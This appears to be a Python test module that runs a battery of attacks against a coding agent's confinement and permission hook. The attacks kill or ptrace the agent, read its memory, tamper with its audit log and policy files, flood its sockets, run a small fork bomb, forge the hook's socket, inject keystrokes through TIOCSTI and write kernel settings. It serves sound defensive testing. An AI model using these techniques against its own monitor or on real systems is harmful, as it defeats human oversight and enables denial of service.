"""Acts against the agent itself; run by `kit.py`, see there. Outside of the confinement, where there is no agent, its
part is played by a child of the attacker's own."""

import array
import contextlib
import ctypes
import errno
import fcntl
import glob
import json
import os
import pty
import resource
import signal
import socket
import struct
import subprocess
import termios
import threading
import time
from urllib.parse import urlsplit

from kit import GRANTED, LIBC, WORLD, Absent, Resisted, attack, call, dangerous, main, own, runs

IN_GVISOR = WORLD["runtime"].startswith("gvisor")
FEW = 5 if IN_GVISOR else 1  # gVisor is that much slower
UNCONFINED = WORLD["runtime"] == "unconfined"
PRIVATE = (
    "environ",
    "maps",
    "auxv",
    "io",
    "syscall",
    "stack",
    "pagemap",
    "fd",
    "fdinfo",
    "map_files",
    "mem",
    "personality",
)
LINKS = ("root", "cwd", "exe")
CLIENTS = (
    ["/usr/local/lib/parhelia/parhelia-hook"],
    ["/run/parhelia/parhelia-hook"],
    ["/usr/bin/python3", "-IS", "/run/parhelia/hook_client.py"],
)
"""The hook's client where an image has it, and where a session finds it."""
HOOK = "/run/parhelia/hook.sock"


def child():
    """A process of the session's own, which is killed with the act's process group."""
    number = os.fork()
    if not number:
        while True:
            time.sleep(60)
    return number


def agents(*, with_init=True):
    """The agent's processes that are in sight; the session's init is its first process, and the session's parent."""
    if UNCONFINED:
        return [child()]
    found = []
    for entry in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError), open(f"/proc/{entry}/cmdline", "rb") as file:
            modules = [word for word in file.read().split(b"\0") if word.startswith(b"agent.")]
            if modules and (with_init or not modules[0].startswith(b"agent.session.")):
                found.append(int(entry))
    return found


def on_agents(*acts):
    """Try the acts on each of the agent's processes; what succeeded. Raises OSError where nothing did."""
    return on_processes(agents(), *acts)


def on_processes(pids, *acts):
    done, last = [], None
    for pid in pids:
        for act in acts:
            try:
                act(pid)
                done.append(f"{act.__name__} {pid}")
            except OSError as error:
                last = error
    if done:
        return done
    if last is None:
        raise Resisted("no process of the agent's is in sight")
    raise last


def signal_0(pid):
    os.kill(pid, 0)


def signal_urg(pid):
    os.kill(pid, signal.SIGURG)


def by_descriptor(pid):
    signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGURG)


def kill(pid):
    os.kill(pid, signal.SIGKILL)


def stop(pid):
    os.kill(pid, signal.SIGSTOP)


def abort(pid):
    os.kill(pid, signal.SIGABRT)


@attack()
def signalled():
    return on_processes(agents(with_init=False), signal_0, signal_urg, by_descriptor)


@attack()
def killed():
    return on_processes(agents(with_init=False), stop, abort, kill)


@attack()
def sessions_init_signalled():
    """Only asked whether it may: with its first process the session would end."""
    return on_processes(set(agents()) - set(agents(with_init=False)) or [child()] * UNCONFINED, signal_0, signal_urg)


def gone(pid):
    with contextlib.suppress(OSError), open(f"/proc/{pid}/stat") as file:
        return file.read().rpartition(")")[2].split()[0] in ("Z", "X")
    return True


@attack()
def signalled_for_a_descriptor():
    """The kernel signals whom F_SETOWN names, with what F_SETSIG says, when there is something to read."""

    def owned(pid):
        near, far = socket.socketpair()
        with near, far:
            fcntl.fcntl(near, fcntl.F_SETOWN, pid)
            fcntl.fcntl(near, 10, signal.SIGKILL)  # F_SETSIG
            fcntl.fcntl(near, fcntl.F_SETFL, os.O_RDWR | os.O_ASYNC | os.O_NONBLOCK)
            far.send(b"x")
            time.sleep(0.1)
        if not gone(pid):
            raise OSError(errno.EPERM, "it goes on")

    return on_processes(agents(with_init=False), owned)


@attack()
def orphans_last_word():
    """The signal that clone(2) names goes to the parent when the child ends: here to the one that takes its orphans."""
    near, far = os.pipe()
    middle = os.fork()
    if not middle:
        parent = os.getpid()
        if not call(56, signal.SIGKILL, 0, 0, 0, 0):
            while os.getppid() == parent:
                time.sleep(0.01)
            os.write(far, struct.pack("i", os.getppid()))
        os._exit(0)
    os.waitpid(middle, 0)
    (reaper,) = struct.unpack("i", os.read(near, 4))
    time.sleep(0.2)
    if gone(reaper):
        return f"{reaper} is no more"
    raise Resisted(f"{reaper} goes on")


@attack()
def traced():
    def attach(pid):
        call(101, 16, pid, 0, 0)

    def seize(pid):
        call(101, 0x4206, pid, 0, 0)

    return on_agents(attach, seize)


def vector():
    word = ctypes.create_string_buffer(8)
    return (ctypes.c_void_p * 2)(ctypes.addressof(word), 8), word


@attack()
def memory_read():
    def process_vm_readv(pid):
        place, _word = vector()
        call(310, pid, place, 1, place, 1, 0)

    return on_agents(process_vm_readv)


@attack()
def memory_written():
    def process_vm_writev(pid):
        place, _word = vector()
        call(311, pid, place, 1, place, 1, 0)

    def mem(pid):
        os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))

    return on_agents(process_vm_writev, mem)


@attack()
def neighbours_memory():
    """What was approved at an exec is changed afterwards, in a process of the session's own."""
    near, far = os.pipe()
    text = ctypes.create_string_buffer(b"as approved")
    neighbour = os.fork()
    if not neighbour:
        os.read(near, 1)
        os._exit(text.value != b"as approved")
    try:
        with open(f"/proc/{neighbour}/mem", "r+b", buffering=0) as file:
            file.seek(ctypes.addressof(text))
            file.write(b"changed")
    finally:
        os.write(far, b"x")
        changed = os.waitpid(neighbour, 0)[1]
    if not changed:
        raise Resisted("the memory is as it was")
    return "changed another process's memory"


@attack()
def looked_into():
    def look(name):
        def read(pid):
            path = f"/proc/{pid}/{name}"
            if os.path.isdir(path):
                os.listdir(path)
            else:
                with open(path, "rb") as file:
                    if not file.read(1) and name in ("environ", "maps"):
                        raise OSError(errno.EACCES, "empty")

        read.__name__ = name
        return read

    return on_agents(
        *[look(name) for name in PRIVATE if name not in ("mem", "syscall", "stack", "pagemap", "personality")]
    )


@attack()
def followed():
    def follow(name):
        def link(pid):
            os.stat(f"/proc/{pid}/{name}")

        link.__name__ = name
        return link

    return on_agents(*[follow(name) for name in LINKS])


@attack()
def descriptors_opened():
    """What has no name, or none that the session may open: memory, pipes, the log."""
    held = os.memfd_create("held") if UNCONFINED else -1

    def opened(pid):
        found = []
        for number in os.listdir(f"/proc/{pid}/fd"):
            name = f"/proc/{pid}/fd/{number}"
            for flags in (os.O_RDONLY, os.O_WRONLY):
                with contextlib.suppress(OSError):
                    target = os.readlink(name)
                    os.close(os.open(name, flags | os.O_NONBLOCK | os.O_NOCTTY))
                    if not os.access(target, os.R_OK if flags == os.O_RDONLY else os.W_OK):
                        found.append(target)
        if not found:
            raise OSError(errno.EACCES, "nothing but what has a name")

    done = on_agents(opened)
    if held >= 0:
        os.close(held)
    return done


@attack()
def descriptors_taken():
    if IN_GVISOR:
        raise Absent("gVisor has no pidfd_getfd")

    def take(pid):
        held = os.pidfd_open(pid)
        for number in range(12):
            with contextlib.suppress(OSError):
                return call(438, held, number, 0)
        raise OSError(errno.EPERM, "pidfd_getfd")

    return on_agents(take)


@attack()
def limited():
    def prlimit(pid):
        resource.prlimit(pid, resource.RLIMIT_NOFILE, (64, 64))

    return on_agents(prlimit)


@attack()
def slowed():
    def scheduler(pid):
        os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))

    def affinity(pid):
        os.sched_setaffinity(pid, {0})

    def priority(pid):
        os.setpriority(os.PRIO_PROCESS, pid, 19)

    def io_priority(pid):
        call(251, 1, pid, 3 << 13)

    return on_agents(priority, scheduler, affinity, io_priority)


@attack()
def offered_to_the_oom_killer():
    def score(pid):
        with open(f"/proc/{pid}/oom_score_adj", "w") as file:
            file.write("1000")

    def what_a_core_holds(pid):
        with open(f"/proc/{pid}/coredump_filter", "w") as file:
            file.write("0x7f")

    return on_agents(score, what_a_core_holds)


def agents_files():
    places = (
        *("/opt/parhelia/bin/python", "/opt/parhelia", "/usr/local/lib/parhelia/parhelia-hook", "/entrypoint.sh"),
        *("/etc/claude-code/managed-settings.json", "/etc/parhelia/policies/commands.yaml", "/etc/parhelia"),
        *(WORLD["audit"], WORLD["audit"] + "/audit.jsonl", WORLD["policies"], WORLD["policies"] + "/policy.yaml"),
        *glob.glob("/run/parhelia/*"), *glob.glob("/run/parhelia/*/*"), "/run/parhelia",
    )  # fmt: skip
    return [place for place in places if os.path.lexists(place)]


def on_files(places, *acts):
    done, last = [], None
    for place in places:
        for act in acts:
            try:
                act(place)
                done.append(f"{act.__name__} {place}")
            except OSError as error:
                last = error
    if done:
        return done
    raise last or Resisted("no file of the agent's is in sight")


def write(path):
    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))


def replace(path):
    os.rename(own("replacement"), path)


def move(path):
    os.rename(path, f"{GRANTED}/taken")


def remove(path):
    os.unlink(path)


def plant(path):
    os.close(os.open(path + "/planted", os.O_CREAT | os.O_WRONLY))


@attack(control=lambda: (write(own("a")), remove(own("b"))))
def files_replaced():
    return on_files(agents_files(), write, plant, replace, move, remove)


def same_mode(path):
    os.chmod(path, os.stat(path).st_mode & 0o7777)  # the right is what is tried


@attack(control=lambda: same_mode(own("a")))
def files_metadata():
    return on_files([place for place in agents_files() if not place.startswith(WORLD["audit"])], same_mode)


@attack(control=lambda: same_mode(own("a")))
def log_metadata():
    return on_files([place for place in agents_files() if place.startswith(WORLD["audit"])], same_mode)


@attack(control=lambda: open(own("a")).close())
def log_read():
    def read_it(path):
        with open(path) as file:
            file.read(1)

    for place in (WORLD["audit"] + "/audit.jsonl", WORLD["policies"] + "/policy.yaml"):
        with contextlib.suppress(OSError):
            read_it(place)
            return f"read {place}"
    raise OSError(errno.EACCES, "log and policy")


@attack()
def control_socket():
    listed = set(glob.glob("/run/parhelia/**/control*.sock", recursive=True))
    with open("/proc/net/unix") as file:
        listed |= {line.split()[7] for line in file if "control" in line and len(line.split()) > 7}
    raw = json.dumps({"verb": "status"}).encode()
    last = Resisted("no control socket in sight")
    for path in sorted(listed):
        try:
            with socket.socket(socket.AF_UNIX) as link:
                link.settimeout(5)
                link.connect(path)
                link.sendall(struct.pack("!I", len(raw)) + raw)
                said = json.loads(link.recv(65536)[4:])
                if said.get("exit") == 0:
                    return f"{path} answered {said}"
                last = OSError(errno.EACCES, str(said))
        except (OSError, ValueError) as error:
            last = error if isinstance(error, OSError) else OSError(errno.EACCES, str(error))
    raise last


def still_deciding(mark):
    """Whatever was done to the agent, a dangerous command is refused and a harmless one runs."""
    runs("/bin/true")
    return runs(*dangerous(mark))


def ready():
    """The hook's socket, where this session has it at its compiled-in place."""
    with socket.socket(socket.AF_UNIX) as link:
        link.settimeout(5)
        link.connect(HOOK)


@attack(control=ready, seconds=40)
def hook_connections():
    held = []
    for _ in range(300):
        with contextlib.suppress(OSError):
            link = socket.socket(socket.AF_UNIX)
            link.settimeout(0.05)
            link.connect(HOOK)
            link.send(b"parhelia-hook 1 claude-code\n{")
            held.append(link)
    return still_deciding("hook-connections")


@attack(control=ready, seconds=40)
def descriptors_sent():
    with open("/dev/null") as null:
        rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null.fileno()] * 200))]
        for _ in range(30):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as link:
                link.settimeout(1)
                link.connect(HOOK)
                link.sendmsg([b"parhelia-hook 1 claude-code\n{"], rights)
    return still_deciding("descriptors-sent")


@attack(control=ready, seconds=40)
def endless_message():
    sent = 0
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as link:
        link.settimeout(2)
        link.connect(HOOK)
        link.sendall(b"parhelia-hook 1 claude-code\n")
        for _ in range(512):
            sent += link.send(b"[" * 65536)
    if sent > 24 << 20:
        return f"the agent took {sent} bytes of one message"
    return still_deciding("endless-message")


@attack(seconds=40)
def descriptors_in_flight():
    """As many as the account may have on their way, in sockets that nobody reads (unix(7), ETOOMANYREFS)."""
    held = []
    with open("/dev/null") as null, contextlib.suppress(OSError):
        rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null.fileno()] * 250))]
        for _ in range(40):
            near, far = socket.socketpair()
            near.setblocking(False)
            held.append((near, far))
            with contextlib.suppress(BlockingIOError):
                for _ in range(100):
                    near.sendmsg([b"x"], rights)
    return still_deciding("descriptors-in-flight")


@attack(seconds=40)
def full_server():
    """Sixty threads wait for a Unix server of the session's own that accepts nobody."""
    path = f"{GRANTED}/full.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(0)

    def knock():
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as link:
            link.connect(path)
            time.sleep(60)

    for _ in range(60):
        threading.Thread(target=knock, daemon=True).start()
    return still_deciding("full-server")


@attack(seconds=40)
def leased_script():
    """Whoever opens a file with a write lease waits for its holder, 45 seconds at most (fcntl(2), F_SETLEASE)."""
    path = own("leased", "#!/bin/sh\n")
    os.chmod(path, 0o755)
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    descriptor = os.open(path, os.O_RDWR)
    try:
        fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_WRLCK)
    except OSError as error:
        raise Absent(f"no leases here: {error}") from None
    waiting = subprocess.Popen(["sh", path])
    with contextlib.suppress(OSError):
        subprocess.run([path], check=False)
    try:
        return still_deciding("leased-script")
    finally:
        waiting.kill()


@attack(seconds=60)
def proxy_connections():
    place = urlsplit(os.environ["HTTPS_PROXY"])
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    held = []
    for _ in range(600):
        with contextlib.suppress(OSError):
            held.append(socket.create_connection((place.hostname, place.port), 0.2))
    return still_deciding("proxy-connections")


@attack(seconds=60)
def many_processes():
    """A hundred and fifty, and no more: a counted loop."""
    for _ in range(150 // FEW):
        try:
            child()
        except OSError:
            break
    return still_deciding("many-processes")


@attack(seconds=60)
def small_fork_bomb():
    """Each child forks again, seven times over: 128 processes (in gVisor 32) and no more, and the account's limit."""
    resource.setrlimit(resource.RLIMIT_NPROC, (400, 400))
    for _ in range(5 if IN_GVISOR else 7):
        with contextlib.suppress(OSError):
            os.fork()
    with contextlib.suppress(FileExistsError):
        os.close(os.open(f"{GRANTED}/the-first-of-the-bomb", os.O_CREAT | os.O_EXCL))
        time.sleep(1)
        return still_deciding("small-fork-bomb")
    time.sleep(40)
    os._exit(0)


@attack(seconds=100)
def many_refused_opens():
    path = WORLD["victims"].encode() + b"/private"
    for _ in range(100_000 // FEW):
        if LIBC.open(path, 0) >= 0:
            return "opened a file that is root's alone"
    return still_deciding("many-refused-opens")


@attack(seconds=60)
def many_refused_execs():
    for _ in range(200 // FEW):
        with contextlib.suppress(OSError):
            subprocess.run(dangerous("flood"), check=False)
    return still_deciding("after-the-flood")


def ask_client(text, **more):
    message = {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": text}, "cwd": "/tmp"}
    asked = subprocess.run(
        [*client(), "claude-code"], input=json.dumps(message), capture_output=True, text=True, check=False, **more
    )
    return asked.returncode


def client():
    for argv in CLIENTS:
        if os.path.exists(argv[-1]):
            return argv
    raise Absent("the hook's client is not here")


def harmless_call():
    if ask_client("true") != 0:
        raise Resisted("the client refuses a harmless call")


@attack(control=harmless_call)
def clients_choice_of_daemon():
    """A server of the session's own, wherever a client could be talked into looking for its own."""
    asked = []
    for place in ("hook.sock", "parhelia/hook.sock", "run/parhelia/hook.sock", ".parhelia/hook.sock"):
        path = f"{GRANTED}/{place}"
        os.makedirs(os.path.dirname(path), exist_ok=True)
        server = socket.socket(socket.AF_UNIX)
        server.bind(path)
        server.listen(4)

        def serve(server=server, path=path):
            peer, _ = server.accept()
            asked.append(path)
            peer.recv(65536)
            peer.sendall(b"PH\1\0" + bytes(12))
            peer.close()

        threading.Thread(target=serve, daemon=True).start()
    names = ("PARHELIA_RUN_DIR", "HOME", "TMPDIR", "XDG_RUNTIME_DIR", "PARHELIA_HOOK_SOCKET", "RUNTIME_DIRECTORY")
    forged = dict.fromkeys(names, GRANTED) | {"PARHELIA_HOOK_SOCKET": f"{GRANTED}/hook.sock"}
    status = ask_client(" ".join(dangerous("clients-choice")), cwd=GRANTED, env=forged)
    if asked:
        return f"asked {asked}"
    if status == 0:
        return "let a dangerous call pass"
    raise OSError(errno.EACCES, f"status {status}")


@attack()
def second_listener():
    if IN_GVISOR:
        raise Absent("gVisor has no listeners")
    LIBC.prctl(38, 1, 0, 0, 0)
    program = ctypes.create_string_buffer(struct.pack("=HBBI", 0x06, 0, 0, 0x7FFF0000))
    call(317, 1, 8, struct.pack("=HxxxxxxQ", 1, ctypes.addressof(program)))
    return "has a listener of its own"


@attack()
def clock():
    now = struct.pack("=qq", int(time.time()) + 3600, 0)
    changed = []
    for name, number, arguments in (("clock_settime", 227, (0, now)), ("settimeofday", 164, (now, 0))):
        with contextlib.suppress(OSError):
            call(number, *arguments)
            changed.append(name)
    if not changed:
        raise OSError(errno.EPERM, "no call sets the clock")
    return changed


def type_ahead(request):
    """Type a character into a terminal, as if its owner had."""
    if IN_GVISOR:
        raise Absent("gVisor's terminals take no TIOCSTI")
    near, far = pty.openpty()
    number = os.fork()
    if not number:
        os.setsid()
        fcntl.ioctl(far, termios.TIOCSCTTY, 0)
        answer = LIBC.ioctl(ctypes.c_int(far), ctypes.c_ulong(request), ctypes.c_char_p(b"x"))
        os._exit(ctypes.get_errno() if answer else 0)
    status = os.waitstatus_to_exitcode(os.waitpid(number, 0)[1])
    os.close(near)
    if status == errno.EIO:
        raise Absent("this kernel takes no TIOCSTI")
    if status:
        raise OSError(status, os.strerror(status))
    return "typed into a terminal"


@attack()
def typed_ahead():
    return type_ahead(termios.TIOCSTI)


@attack()
def typed_ahead_by_a_longer_number():
    return type_ahead(0x100000000 | termios.TIOCSTI)


@attack(control=lambda: os.close(os.open("/proc/self/oom_score_adj", os.O_RDONLY)))
def machine_settings():
    changed = []
    for name in ("kernel/core_pattern", "kernel/modprobe", "kernel/hostname", "vm/drop_caches", "../sysrq-trigger"):
        with contextlib.suppress(OSError):
            os.close(os.open(f"/proc/sys/{name}", os.O_WRONLY))
            changed.append(name)
    if not changed:
        raise OSError(errno.EACCES, "no setting of the machine's")
    return changed


if __name__ == "__main__":
    main()
